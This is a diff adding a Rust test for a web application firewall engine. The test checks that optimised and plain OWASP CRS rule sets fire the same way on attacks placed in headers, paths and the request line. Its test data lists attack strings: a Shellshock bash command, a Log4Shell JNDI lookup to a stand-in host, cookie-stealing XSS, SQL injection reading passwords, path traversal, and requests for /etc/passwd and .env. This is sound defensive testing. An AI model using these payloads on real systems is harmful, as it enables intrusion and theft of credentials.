@@ -534,6 +534,43 @@ fn optimised_and_plain_crs_agree(paranoia: u8) {
             fired_total += a.0.len();
         }
     }
+    // Attacks outside the arguments: in one header (rules that read a
+    // header by name, User-Agent or Referer), in the path (REQUEST_FILENAME
+    // and REQUEST_BASENAME) and in the request line, which the rule gate
+    // decides value by value.
+    let elsewhere = [
+        ("/a/b.php", "User-Agent", "sqlmap/1.8 (https://sqlmap.org)"),
+        ("/a/b.php", "User-Agent", "() { :; }; /bin/bash -c 'id'"),
+        ("/a/b.php", "User-Agent", "${jndi:ldap://evil.example/a}"),
+        ("/a/b.php", "Referer", "javascript:alert(document.cookie)"),
+        (
+            "/a/b.php",
+            "Referer",
+            "http://x/?q=<script>alert(1)</script>",
+        ),
+        (
+            "/a/b.php",
+            "X-Api-Version",
+            "1 UNION SELECT password FROM users",
+        ),
+        ("/etc/passwd", "Accept", "*/*"),
+        ("/a/..%2f..%2fboot.ini", "Accept", "*/*"),
+        ("/wp-admin/x.php%00.jpg", "Accept", "*/*"),
+        ("/a/<script>alert(1)</script>", "Accept", "*/*"),
+        ("/a/.env", "Accept", "*/*"),
+    ];
+    for (path, name, value) in elsewhere {
+        let mut headers = browser_headers();
+        headers.retain(|(n, _)| *n != name);
+        headers.push((name, value));
+        let req = request("GET", &format!("{path}?q=1"), &headers, "");
+        let (a, b) = (all_phases(&with, req.clone()), all_phases(&without, req));
+        assert_eq!(
+            a, b,
+            "PL{paranoia} {path} {name}: {value}: optimised vs plain"
+        );
+        fired_total += a.0.len();
+    }
     // Apache's internal dummy connection: CRS removes its own rules for
     // it (905110), gates included.
     let mut pinger = request(
